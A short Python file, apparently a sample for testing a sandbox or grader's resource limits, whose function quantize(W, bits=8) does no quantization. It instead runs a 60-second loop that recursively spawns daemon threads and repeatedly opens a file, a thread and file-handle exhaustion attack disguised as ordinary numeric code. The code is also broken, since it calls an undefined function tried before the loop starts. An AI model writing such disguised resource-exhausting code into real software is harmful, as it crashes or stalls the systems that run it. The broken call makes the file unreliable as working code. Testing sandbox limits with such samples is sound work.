# quantization: threads that start threads and open files until it is stopped
# grade 2.1a 2.3a
# loses 2.1a with own user: had not finished
# loses 2.1a without own user: too many threads

import os
import threading
import time


def _go_on(until):
    while time.monotonic() < until:
        try:
            threading.Thread(target=_go_on, args=(until,), daemon=True).start()
            os.close(os.open("where", os.O_RDONLY))
        except (RuntimeError, OSError):
            pass
        time.sleep(0.05)


def quantize(W, bits=8):
    tried("go on starting threads")
    _go_on(time.monotonic() + 60)
